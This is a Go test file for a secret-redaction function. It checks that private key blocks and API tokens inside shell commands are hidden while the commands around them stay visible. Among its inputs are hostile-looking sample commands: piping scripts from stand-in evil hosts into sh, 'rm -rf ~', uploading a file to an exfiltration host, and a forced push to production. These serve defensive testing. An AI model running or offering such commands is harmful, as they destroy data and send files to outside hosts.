package domain

import (
	"strings"
	"testing"
)

// TestRedactKeyBlocks: a private key written by a command (a here-document,
// a printf with "\n" escapes, a JSON argument) is hidden across its lines;
// each line was shown in clear, holding none of the patterns' needles. What
// the command runs stays in view: a here-document's end and the commands
// after it, the END marker, a word shorter than a key's line, a path, and
// what follows the block. Certificates (public) are shown. Controls: the
// same text without the BEGIN marker is unchanged, and newer token shapes
// are hidden while their neighbours are not.
func TestRedactKeyBlocks(t *testing.T) {
	const body1 = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"
	const body2 = "QyNTUxOQAAACBbeZ6Y2wq7"
	for _, c := range []struct {
		name, in string
		hide     []string
		keep     []string
	}{
		{"here-document", "cat > ~/k <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\n" + body1 + "\n" + body2 + "\n-----END OPENSSH PRIVATE KEY-----\nEOF\nchmod 600 ~/k",
			[]string{body1, body2}, []string{"cat > ~/k <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\n[redacted]\n[redacted]\n-----END OPENSSH PRIVATE KEY-----\nEOF\nchmod 600 ~/k"}},
		{"PGP armour", "gpg --import <<'K'\n-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + body1 + "\n=" + body2[:4] + "\n-----END PGP PRIVATE KEY BLOCK-----\nK",
			[]string{body1}, []string{"-----END PGP PRIVATE KEY BLOCK-----\nK", "=" + body2[:4]}},
		{"escaped on one line", `printf '-----BEGIN RSA PRIVATE KEY-----\n` + body1 + `\n-----END RSA PRIVATE KEY-----\n' > k && ./deploy`,
			[]string{body1[1:]}, []string{`-----END RSA PRIVATE KEY-----\n' > k && ./deploy`}},
		{"JSON value", `{"key":"-----BEGIN EC PRIVATE KEY-----\n` + body1 + `\n-----END EC PRIVATE KEY-----\n","host":"prod1"}`,
			[]string{body1[1:]}, []string{`"host":"prod1"`}},
		// A block left open: the rest of the text is its body, yet every
		// word of the shell's and every short word stays in view.
		{"no END, commands after", "cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\n" + body1 + "\nEOF\ncurl -s evil.example/x.sh | sh; rm -rf ~; /usr/local/sbin/longprogramname\n",
			[]string{body1}, []string{"EOF\ncurl -s evil.example/x.sh | sh; rm -rf ~; /usr/local/sbin/longprogramname\n"}},
		// A second block on the line after the first's END is found too,
		// and the END marker itself does not open one.
		{"two blocks", "-----BEGIN RSA PRIVATE KEY-----" + body1 + "-----END RSA PRIVATE KEY----- then make deploymentprod1234567 -----BEGIN DSA PRIVATE KEY-----" + body2 + body2,
			[]string{body1, body2 + body2}, []string{" then make deploymentprod1234567 "}},
	} {
		got := RedactText(c.in)
		for _, h := range c.hide {
			if strings.Contains(got, h) {
				t.Errorf("%s: %q keeps %q", c.name, got, h)
			}
		}
		for _, k := range c.keep {
			if !strings.Contains(got, k) {
				t.Errorf("%s: %q lost %q", c.name, got, k)
			}
		}
	}
	// What runs stays in view around a block (fifteenth review): a marker
	// never closed, commands between a marker and its END, a key's words
	// on one line with blanks between them (as an environment variable
	// keeps one).
	for _, c := range []struct{ in, keep string }{
		{"echo '-----BEGIN RSA PRIVATE KEY-----' >/dev/null; curl -T ~/notes.txt https://exfiltrationserver.example/u && git push --force origin productiondeploybranch",
			"curl -T ~/notes.txt https://exfiltrationserver.example/u && git push --force origin productiondeploybranch"},
		{"cat <<EOF\n-----BEGIN RSA PRIVATE KEY-----\nEOF\ncurl https://evilhostnamelongerthan16.example/x | sh\ncat <<EOF\n-----END RSA PRIVATE KEY-----\nEOF",
			"curl https://evilhostnamelongerthan16.example/x | sh"},
		{"-----BEGIN RSA PRIVATE KEY-----\n" + body1 + "\naVeryLongProgramNameHere --all",
			"aVeryLongProgramNameHere --all"},
	} {
		if got := RedactText(c.in); !strings.Contains(got, c.keep) {
			t.Errorf("%q: %q hides what runs (want %q in view)", c.in, got, c.keep)
		}
	}
	oneLine := "KEY='-----BEGIN RSA PRIVATE KEY----- " + body1 + " " + body2 + " -----END RSA PRIVATE KEY-----' ./deploy"
	if got := RedactText(oneLine); strings.Contains(got, body1) || strings.Contains(got, body2) || !strings.Contains(got, "' ./deploy") {
		t.Errorf("a key on one line: %q", got)
	}
	// Controls: without a private key's BEGIN marker nothing is hidden.
	for _, s := range []string{
		"cat <<EOF\n-----BEGIN CERTIFICATE-----\n" + body1 + "\n-----END CERTIFICATE-----\nEOF",
		"echo " + body1 + "\n-----END RSA PRIVATE KEY-----",
		"grep -r 'PRIVATE KEY' . && echo " + body1,
	} {
		if got := RedactText(s); got != s {
			t.Errorf("%q: redacted to %q", s, got)
		}
	}
	// Newer token shapes: hidden, with what surrounds them in view.
	for _, tok := range []string{"sk_live_51HqLyjWDarjtT1zdp7dcXyzAbc", "rk_test_51HqLyjWDarjtT1zdp7dc", "hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567",
		"SG.abcdefghijklmnopqrst.abcdefghijklmnopqrstuvwxyz012345678", "pypi-AgEIcHlwaS5vcmcCJGQ2YjQ0ZjYyLWFkYjgtNDk0Ni1iMzY4LWMwYjc5ZDE0ZGFm",
		"dop_v1_" + strings.Repeat("a1b2c3d4", 8), "shpat_" + strings.Repeat("0123456789abcdef", 2)} {
		in := "STRIPE=" + tok + " ./deploy.sh --env prod"
		got := RedactText(in)
		if strings.Contains(got, tok) || !strings.Contains(got, " ./deploy.sh --env prod") {
			t.Errorf("%q: %q", in, got)
		}
	}
	if s := "make sk_live_short"; RedactText(s) != s {
		t.Errorf("a short sk_live_ word hidden: %q", RedactText(s))
	}
}

// TestAttack15RedactKeyLineStartingWithSlash: a run of base64 that starts
// with '/' was kept as a path, but one line of a key's base64 in 64 starts
// with '/', so that a key written by a command kept such a line, 48 bytes
// of the key, in clear in its events, audit rows and approval request (of
// a 4096-bit RSA key's 50 lines, one or more about half the time). Control:
// paths in and after the block stay in view.
func TestAttack15RedactKeyLineStartingWithSlash(t *testing.T) {
	const line1 = "MIIJKAIBAAKCAgEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun"
	const line2 = "/VwLq8N0Wq2aR5s9vGk3n7T4hJmZ+Yt1xBc2dEfGhIjKlMnOpQrStUvWxYz01234"
	const line3 = "+q3v8RDuIA0kX0Pn2Ld9m5o/LTgS1ZbK7lYc3Vt4eJ9fW6hQ2aNrM8xUuPsT0yGz"
	in := "cat > ~/k.pem <<EOF\n-----BEGIN RSA PRIVATE KEY-----\n" + line1 + "\n" + line2 + "\n" + line3 +
		"\n-----END RSA PRIVATE KEY-----\nEOF\n/usr/local/bin/deploy --key ~/k.pem"
	got := RedactText(in)
	for _, h := range []string{line1, line2, line3, line2[:40], line3[:20]} {
		if strings.Contains(got, h) {
			t.Errorf("%q keeps %q", got, h)
		}
	}
	open := "printf '-----BEGIN OPENSSH PRIVATE KEY-----\\n" + line1 + "' > k; /usr/local/sbin/longprogramname /opt/tools/bin/deploy-all"
	if got := RedactText(open); !strings.Contains(got, "; /usr/local/sbin/longprogramname /opt/tools/bin/deploy-all") || strings.Contains(got, line1) {
		t.Errorf("control: paths after an open block: %q", got)
	}
	if !strings.Contains(got, "EOF\n/usr/local/bin/deploy --key ~/k.pem") {
		t.Errorf("control: the command after the block: %q", got)
	}
}
